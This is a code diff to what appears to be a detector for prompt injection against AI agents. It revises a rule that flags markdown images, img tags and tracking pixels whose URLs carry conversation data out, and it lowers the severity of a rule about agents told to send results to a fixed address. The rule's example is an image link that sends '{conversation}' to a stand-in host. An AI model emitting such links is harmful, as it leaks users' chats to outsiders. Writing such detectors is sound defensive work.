@@ -97,7 +97,7 @@ export const exfiltration = rulesOf("exfiltration", {
     title: "An image's address carries data out when it is shown",
     on: [...told, "link", "code"],
     pattern:
-      /!\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^)\n]{3,160}[?&/=](?:\w{1,20}=)?(?:\{|\$|<|%7b|\[|data\b|base64|encoded|secret|conversation|summary|history|context|content|response|prompt|user_?(?:data|input|name))|\b(?:render|embed|include|display|append|insert|add|load|output|show)\b[^.!?\n]{0,60}\b(?:image|img|pixel|picture|badge|icon)\b[^\n]{0,120}https?:\/\/[^\s"')]{3,120}[?&]\w{1,20}=|<img[^>\n]{1,120}https?:\/\/[^>\n]{3,120}[?&]\w{1,20}=(?:\{|\$|<|\[)/i,
+      /\b(?:1 ?x ?1|tracking|invisible|transparent|hidden|zero-size)(?: \w{1,10}){0,2} (?:pixels?|images?|gifs?|beacons?|img)\b[^\n]{0,80}https?:\/\/|!\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^)\n]{3,160}[?&/=](?:\w{1,20}=)?(?:\{|\$|<|%7b|\[|base64|encoded|secret|conversation|summary|chat_?history|user_?(?:data|input))|\b(?:render|embed|include|display|append|insert|add|load|output|show)\b[^.!?\n]{0,60}\b(?:image|img|pixel|picture|badge|icon)\b[^\n]{0,120}https?:\/\/[^\s"')]{3,120}[?&]\w{1,20}=|<img[^>\n]{1,120}https?:\/\/[^>\n]{3,120}[?&]\w{1,20}=(?:\{|\$|<|\[)/i,
     example: "![status](https://img.drop.example/p.png?d={conversation})",
     nearMiss: "![build](https://ci.example/badge.svg?branch=main)",
   },
@@ -126,7 +126,7 @@ export const exfiltration = rulesOf("exfiltration", {
   },
   {
     id: "told-to-send-there",
-    severity: "medium",
+    severity: "low",
     title: "An agent is told to hand its results to a fixed address",
     on: told,
     pattern:
